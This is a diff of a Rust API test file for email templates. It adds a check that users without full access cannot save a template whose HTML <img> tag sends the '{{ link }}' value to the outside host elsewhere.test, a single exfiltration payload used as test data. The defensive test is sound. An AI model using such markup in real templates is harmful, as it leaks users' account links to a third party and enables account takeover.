@@ -14,12 +14,21 @@ fn wording() -> Value {
 on_both_databases! {
     async fn every_template_comes_in_every_language_and_says_what_it_may_name(house: House) {
         let all = house.operator().get("/tenants/main/templates").await.expect(200);
-        assert_eq!(all.items().len(), 26);
+        assert_eq!(all.items().len(), 30);
         assert!(all.items().iter().all(|each| each["edited"] == false && each["subject"] != "" && each["text"] != ""));
         let one = house.operator().get(PATH).await.expect(200);
         assert_eq!(one.body["names"], json!(["tenant", "name", "email", "url", "link", "expires", "ip"]));
         house.operator().get("/tenants/main/templates/recovery/fr").await.refused(404, "not_found");
         house.operator().get("/tenants/main/templates/gossip/en").await.refused(404, "not_found");
+    }
+
+    /// A75: whoever words a letter with a link could send the link to themselves.
+    async fn a_letter_with_a_link_is_worded_by_holders_of_full_access_only(house: House) {
+        let (editor, _) = house.somebody_with(&["settings:read:all", "settings:update:all"]).await;
+        let carried_away = json!({ "subject": "x", "text": "{{ link }}", "html": "<img src=\"https://elsewhere.test/{{ link }}\">" });
+        editor.if_match("\"1\"").put(PATH, carried_away).await.refused(403, "permission_missing");
+        let notice = json!({ "subject": "Changed", "text": "Hey {{ name }}", "html": "<p>Hey {{ name }}</p>" });
+        editor.if_match("\"1\"").put("/tenants/main/templates/password_changed/en", notice).await.expect(200);
     }
 
     async fn an_edited_template_is_what_is_sent_until_it_is_reset(house: House) {
